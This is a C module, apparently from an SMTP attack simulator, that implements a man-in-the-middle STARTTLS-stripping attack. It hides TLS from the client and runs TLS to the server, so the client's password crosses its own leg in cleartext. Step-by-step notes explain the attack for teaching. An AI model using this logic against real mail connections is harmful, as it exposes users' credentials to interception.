/* strip_starttls_upstream: strips STARTTLS towards the client and runs STARTTLS itself
 * towards the server. The server sees a TLS session and is satisfied — it even accepts
 * AUTH, which it allows only over TLS — while the client's password crosses the client's
 * own leg in cleartext. Only the client can insist on TLS for its leg (RFC 8314). */
#include "sim/attack/attack.h"

#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "sim/attack/mitm.h"

enum phase {
	WAIT_EHLO_REPLY,  /* the client's EHLO is on its way to the server */
	WAIT_220,         /* the attacker's own STARTTLS is on its way */
	WAIT_TLS,         /* its handshake with the server runs */
	WAIT_TLS_EHLO,    /* the EHLO it repeated inside TLS is on its way */
	RELAYING,         /* cleartext to the client, TLS to the server */
};

struct upstream {
	enum phase phase;
	char ehlo[600];   /* the client's EHLO line, repeated inside TLS */
	size_t ehlo_len;
};

static int client_line(struct mitm *m, const uint8_t *line, size_t n)
{
	struct upstream *u = mitm_state(m);
	if (u->phase == WAIT_EHLO_REPLY && n >= 4 && n < sizeof u->ehlo &&
	    (!strncasecmp((const char *)line, "EHLO", 4) || !strncasecmp((const char *)line, "HELO", 4))) {
		memcpy(u->ehlo, line, n);
		u->ehlo_len = n;
	}
	return 0;
}

/* Does this EHLO reply offer STARTTLS? */
static int offers_starttls(const uint8_t *r, size_t n)
{
	char out[4096];
	size_t k = n <= sizeof out ? mitm_strip_ehlo((const char *)r, n, out, sizeof out) : (size_t)-1;
	return k != (size_t)-1 && k != n;
}

static int server_reply(struct mitm *m, const uint8_t *r, size_t n, int code)
{
	struct upstream *u = mitm_state(m);
	static const char starttls[] = "STARTTLS\r\n";
	switch (u->phase) {
	case WAIT_EHLO_REPLY:
		if (code != 250 || !u->ehlo_len || !offers_starttls(r, n))
			return 0;
		mitm_note(m, MITM_LEG_SERVER, ATTACK_ADDED,
			  "The attacker holds back the server's EHLO reply and sends STARTTLS to the server itself",
			  "The server will get the TLS it wants — from the attacker. The client will never see "
			  "the STARTTLS offer.");
		mitm_send(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND, (const uint8_t *)starttls, sizeof starttls - 1,
			  ATTACK_ADDED);
		u->phase = WAIT_220;
		return 1;
	case WAIT_220:
		if (code != 220)
			return 0; /* the server refused: pass the refusal on, and stop */
		u->phase = WAIT_TLS;
		mitm_starttls_upstream(m);
		return 1;
	case WAIT_TLS_EHLO:
		u->phase = RELAYING;
		mitm_note(m, MITM_LEG_CLIENT, ATTACK_REPLACED,
			  "The attacker passes the server's TLS-only capability list to the client, in cleartext",
			  "Inside TLS the server no longer offers STARTTLS and now offers AUTH. The client reads "
			  "a server that cannot do TLS but takes passwords; an opportunistic client logs in, in "
			  "cleartext on its own leg, while the server sees every command arrive through TLS.");
		return 0;
	default:
		return 0;
	}
}

static void tls_ready(struct mitm *m, enum mitm_leg leg)
{
	struct upstream *u = mitm_state(m);
	if (leg != MITM_LEG_SERVER || u->phase != WAIT_TLS)
		return;
	u->phase = WAIT_TLS_EHLO;
	mitm_note(m, MITM_LEG_SERVER, ATTACK_ADDED, "TLS is up between the attacker and the server; the attacker repeats the client's EHLO inside it",
		  "RFC 3207 makes the client forget what it learnt before TLS and greet again; the attacker "
		  "plays that client towards the server.");
	mitm_send(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND, (const uint8_t *)u->ehlo, u->ehlo_len, ATTACK_ADDED);
}

const struct attack attack_strip_starttls_upstream = {
	.name = "strip-starttls-upstream",
	.does = "hides STARTTLS from the client and runs STARTTLS itself towards the server",
	.intro = "The attacker sits in the path, ready to hide STARTTLS from the client and use it towards the server",
	.flags = ATTACK_F_TLS_END,
	.state_size = sizeof(struct upstream),
	.client_line = client_line,
	.server_reply = server_reply,
	.tls_ready = tls_ready,
};
